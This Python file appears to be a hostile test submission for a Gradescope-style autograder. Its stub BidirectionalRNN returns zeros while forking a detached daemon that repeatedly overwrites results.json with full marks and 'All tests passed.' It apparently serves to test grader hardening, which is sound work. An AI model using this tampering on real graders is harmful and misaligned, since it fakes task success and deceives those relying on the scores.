"""HOSTILE (Gradescope): leaves a daemon (double fork, setsid) that, once the autograder has written its results,
rewrites results.json with full marks, again and again, for a few seconds."""

import ctypes
import json
import os
import time

import numpy as np

ctypes.CDLL(None).prctl(15, b"{{TOKEN}}", 0, 0, 0)  # test instrumentation (PR_SET_NAME): find leftovers

RESULTS = "{{AUTOGRADER}}/results/results.json"


def _daemon():
    if os.fork() != 0:
        os._exit(0)
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    time.sleep(1.0)  # the autograder has written its results by now
    for _ in range(20):
        try:
            with open(RESULTS, "w") as handle:
                json.dump({"score": 100, "output": "All tests passed.", "tests": []}, handle)
        except OSError:
            pass
        time.sleep(0.2)
    os._exit(0)


class BidirectionalRNN:
    def __init__(self, input_size, hidden_size, output_size, rng=None):
        self.H, self.O = hidden_size, output_size

    def forward(self, inputs):
        if os.fork() == 0:
            try:
                _daemon()
            finally:
                os._exit(0)
        B = inputs[0].shape[1]
        return [np.zeros((self.O, B)) for _ in inputs], [np.zeros((2 * self.H, B)) for _ in inputs]
